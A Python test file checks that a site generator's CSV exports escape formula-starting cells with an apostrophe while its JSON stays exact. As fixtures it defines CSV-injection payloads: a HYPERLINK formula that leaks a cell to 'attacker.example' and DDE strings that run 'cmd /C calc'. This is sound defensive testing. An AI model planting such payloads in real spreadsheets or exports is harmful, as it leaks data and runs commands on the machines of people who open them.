"""CSV exports are safe to open in a spreadsheet (issue 14): a cell that would start a formula gets a
leading `'`; the JSON files keep every value exactly. Read back with Python's csv module."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from ogpsite.build import build
from ogpsite.stages.opendata import CSV_NOTE, csv_cell

from .conftest import settings_for
from .preview import edit

# The classic payloads, and the other starts spreadsheets take as a formula.
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.mark.parametrize("payload", [HYPERLINK, DDE, AT_SUM, MINUS, TAB, CR, "=1", "+", "-", "@"])
def test_a_would_be_formula_starts_with_an_apostrophe(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Open State", "", "2019", "-3", "+4", "1.5", "'=already quoted", " =1+1", "a=b", "<p>-1</p>"])
def test_other_cells_are_left_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_payloads_in_titles_and_summaries_are_neutralised_in_csv_and_exact_in_json(project: Path) -> None:
    ar0090 = project / "content/commitments/ar0090"
    edit(ar0090 / "en.md", "title: Federal Program on Open Government", f"title: {json.dumps(HYPERLINK)}")
    text = (ar0090 / "en.md").read_text(encoding="utf-8")
    start = text.index("summary: >-")
    end = text.index("\nproblem:")
    (ar0090 / "en.md").write_text(text[:start] + f"summary: {json.dumps(DDE)}" + text[end:], encoding="utf-8")
    edit(ar0090 / "es.md", "title: Programa Federal de Gobierno Abierto", f"title: {json.dumps(TAB)}")
    edit(project / "content/themes/open-state/en.md", "title: Open State", f"title: {json.dumps(AT_SUM)}")
    edit(
        project / "content/themes/open-state/en.md",
        "summary: Openness beyond the executive, with legislatures and courts joining the effort.",
        f"summary: {json.dumps(MINUS)}",
    )
    build(settings_for(project))
    data = project / "site/data"

    commitments = {row["id"]: row for row in _rows(data / "commitments.csv")}
    assert commitments["AR0090"]["title_en"] == "'" + HYPERLINK
    assert commitments["AR0090"]["summary_en"] == "'" + DDE
    title_es = json.loads((data / "commitments/ar0090.json").read_text(encoding="utf-8"))["title"]["es"]
    assert title_es.lstrip("\t") == "=1+1"  # the loader may strip the tab: a formula either way
    assert commitments["AR0090"]["title_es"] == "'" + title_es
    themes = {row["slug"]: row for row in _rows(data / "themes.csv")}
    assert themes["open-state"]["title_en"] == "'" + AT_SUM
    assert themes["open-state"]["summary_en"] == "'" + MINUS
    assert themes["open-state"]["order"].lstrip("-").isdigit()  # a number column stays a number

    # No cell of any CSV file starts a formula.
    for table in data.glob("*.csv"):
        for row in csv.reader(table.open(encoding="utf-8", newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table.name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").isdigit(), (table.name, cell)

    # The JSON is exact, in the collection and in the record's own file.
    for source in (
        json.loads((data / "commitments.json").read_text(encoding="utf-8")),
        [json.loads((data / "commitments/ar0090.json").read_text(encoding="utf-8"))],
    ):
        record = next(o for o in source if o["id"] == "AR0090")
        assert record["title"] == {"en": HYPERLINK, "es": title_es}
        assert record["summary"]["en"] == DDE
    theme = next(o for o in json.loads((data / "themes.json").read_text(encoding="utf-8")) if o["slug"] == "open-state")
    assert theme["title"]["en"] == AT_SUM and theme["summary"]["en"] == MINUS

    # The data package says so, for the whole package and for each CSV file, and is still valid.
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    assert CSV_NOTE in package["description"]
    assert all(resource["description"] == CSV_NOTE for resource in package["resources"] if resource["path"].endswith(".csv"))
    from frictionless import validate

    report = validate(str(data / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
